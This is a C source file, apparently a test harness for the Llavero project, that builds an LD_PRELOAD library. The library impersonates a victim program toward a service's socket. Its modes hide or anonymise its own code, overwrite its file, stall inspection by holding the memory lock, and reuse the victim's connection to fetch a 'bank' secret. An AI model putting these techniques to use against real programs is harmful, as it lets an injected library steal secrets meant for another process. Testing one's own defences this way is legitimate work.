// SPDX-License-Identifier: Apache-2.0
// SPDX-FileCopyrightText: 2026 The Llavero project authors

// A library that the dynamic linker puts into the victim (LD_PRELOAD), and that talks in its name.
// By the environment:
//
//     ATTACK_PROGRAM   only in this program
//     ATTACK_SOCKET, ATTACK_HOW
//     ATTACK_WAY   plain       as any library
//                  hide        its code isn't executable while anybody could look
//                  copy        has its pages to itself and puts the bytes of ATTACK_BYTES into its
//                              own file, ATTACK_FILE
//                  anonymous   as hide, and no mapping is of its file any more
//                  lock        holds the memory lock, by a mapping of ATTACK_FILE that waits for
//                              the file's server (`fileserver`); says `locked`
//                  map         maps ATTACK_FILE as code, and talks as any library
//                  plugin      is loaded later: uses the connection that the program has

#include "self.h"

#include <fcntl.h>
#include <pthread.h>

static void overwrite(const char *target, const char *source) {
    static char bytes[1 << 20];
    int from = open(source, O_RDONLY | O_CLOEXEC);
    int to = open(target, O_WRONLY | O_CLOEXEC);
    ssize_t count = read(from, bytes, sizeof bytes);
    if (from < 0 || to < 0 || count <= 0 || count == sizeof bytes) fail(source);
    if (pwrite(to, bytes, count, 0) != count || ftruncate(to, count)) fail(target);
    close(from);
    close(to);
}

static void *read_forever(void *fd) {
    static char byte;
    pread((int)(long)fd, &byte, 1, 0);
    return NULL;
}

static void *map_forever(void *fd) {
    mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, (int)(long)fd, 0);
    return NULL;
}

extern char __bss_start[] __attribute__((visibility("hidden")));
extern char _end[] __attribute__((visibility("hidden")));

static void touch(char *start, size_t size) {
    for (size_t at = 0; at < size; at += 4096) {
        volatile char *byte = start + at;
        *byte = *byte;
    }
}

// Gives this code's data and stack their pages: a page fault would wait for the lock, too.
static void touch_own_memory(void) {
    volatile char stack[1 << 17];
    for (size_t at = 0; at < sizeof stack; at += 4096) stack[at] = 0;
    find_own_mappings();
    for (int i = 0; i < own_count; i++)
        if (own[i].rights & PROT_WRITE) touch(own[i].start, own[i].size);
    touch(__bss_start, _end - __bss_start);
}

// A page that is being read is locked. A mapping past the page cache waits for it, with the lock of
// all mappings held.
static void hold_memory_lock(const char *path) {
    pthread_t threads[2];
    long first = open(path, O_RDONLY | O_CLOEXEC), second = open(path, O_RDONLY | O_CLOEXEC);
    if (first < 0 || second < 0) fail(path);
    touch_own_memory();
    pthread_create(&threads[0], NULL, read_forever, (void *)first);
    usleep(200000);
    pthread_create(&threads[1], NULL, map_forever, (void *)second);
    usleep(200000);
    say("locked");
}

// The first connection to the service's socket.
static int existing_connection(const char *path) {
    for (int fd = 3; fd < 256; fd++) {
        struct sockaddr_un name = {0};
        socklen_t size = sizeof name;
        if (getpeername(fd, (struct sockaddr *)&name, &size) == 0 && !strcmp(name.sun_path, path))
            return fd;
    }
    fail("connection");
    return -1;
}

__attribute__((constructor)) static void attack(void) {
    const char *program = getenv("ATTACK_PROGRAM"), *path = getenv("ATTACK_SOCKET");
    const char *how = getenv("ATTACK_HOW"), *way = getenv("ATTACK_WAY");
    char seen[4096] = {0};
    if (!program || !path || !how || !way) return;
    if (readlink("/proc/self/exe", seen, sizeof seen - 1) < 0 || strcmp(seen, program)) return;
    if (!strcmp(way, "plugin")) {
        static struct frame find, reply;
        find = find_frame("bank");
        if (!request(existing_connection(path), NULL, &find, &reply)) say("closed");
        else say_found(&reply);
        return;
    }
    if (!strcmp(way, "hide")) {
        find_own_mappings();
        run_steps = run_steps_hidden;
    } else if (!strcmp(way, "anonymous")) {
        become_anonymous();
        run_steps = run_steps_hidden;
    } else if (!strcmp(way, "map")) {
        int fd = open(getenv("ATTACK_FILE"), O_RDONLY | O_CLOEXEC);
        // Below the program: it is looked at before this library.
        void *low = (void *)0x10000000;
        if (mmap(low, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, 0) != low)
            fail("map");
    } else if (!strcmp(way, "lock")) {
        hold_memory_lock(getenv("ATTACK_FILE"));
    } else if (!strcmp(way, "copy")) {
        copy_own_pages();
        overwrite(getenv("ATTACK_FILE"), getenv("ATTACK_BYTES"));
    }
    talk(path, how);
    _exit(0);
}
